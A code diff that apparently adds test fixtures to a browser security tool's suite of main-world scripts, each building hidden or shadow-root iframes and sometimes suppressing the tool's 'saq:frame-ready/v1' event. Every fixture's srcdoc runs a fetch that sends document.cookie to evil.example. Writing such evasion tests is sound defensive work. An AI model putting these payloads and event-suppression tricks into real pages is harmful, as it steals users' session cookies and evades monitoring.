@@ -1513,6 +1513,26 @@ export const MAIN_WORLD_SCRIPTS = {
   doc.querySelector('iframe').srcdoc = '<body><script>fetch("https://evil.example/srcdoc-given-reopened?c=" + encodeURIComponent(document.cookie))<\\/script>';
 })();`,
 
+  /**
+   * A srcdoc given to a frame inside a same-origin frame after a write into the outer frame's loaded document (an
+   * implicit open, which no hook sees, erases its window's listeners): the written script listens for the
+   * handover's event first and stops it.
+   */
+  'ready-stopped-rewritten': `(() => {
+  const outer = document.createElement('iframe');
+  outer.style.display = 'none';
+  document.body.appendChild(outer);
+  const index = window.length - 1;
+  setTimeout(() => {
+    const doc = window[index].document;
+    doc.write('<body><scr' + 'ipt>addEventListener("saq:frame-ready/v1", (event) => event.stopImmediatePropagation(), true)</scr' + 'ipt>');
+    doc.close();
+    const inner = doc.createElement('iframe');
+    doc.body.appendChild(inner);
+    inner.srcdoc = '<body><script>fetch("https://evil.example/ready-stopped-rewritten?c=" + encodeURIComponent(document.cookie))<\\/script>';
+  }, 200);
+})();`,
+
   /** A srcdoc given to a frame in a closed shadow root whose host stops the handover's event (capture, added first). */
   'ready-stopped-at-host': `(() => {
   const host = document.createElement('div');
@@ -1521,6 +1541,16 @@ export const MAIN_WORLD_SCRIPTS = {
   const root = host.attachShadow({ mode: 'closed' });
   root.innerHTML = '<iframe style="display:none"></iframe>';
   root.firstChild.srcdoc = '<body><script>fetch("https://evil.example/ready-stopped-at-host?c=" + encodeURIComponent(document.cookie))<\\/script>';
+})();`,
+
+  /** A srcdoc given to a frame in a closed shadow root whose root stops the handover's event (capture, added first). */
+  'ready-stopped-at-root': `(() => {
+  const host = document.createElement('div');
+  document.body.appendChild(host);
+  const root = host.attachShadow({ mode: 'closed' });
+  root.addEventListener('saq:frame-ready/v1', (event) => event.stopImmediatePropagation(), true);
+  root.innerHTML = '<iframe style="display:none"></iframe>';
+  root.firstChild.srcdoc = '<body><script>fetch("https://evil.example/ready-stopped-at-root?c=" + encodeURIComponent(document.cookie))<\\/script>';
 })();`,
 
   /** A frame the srcdoc's parser makes inside a srcdoc frame, reached by window[n][0] at the outer load. */
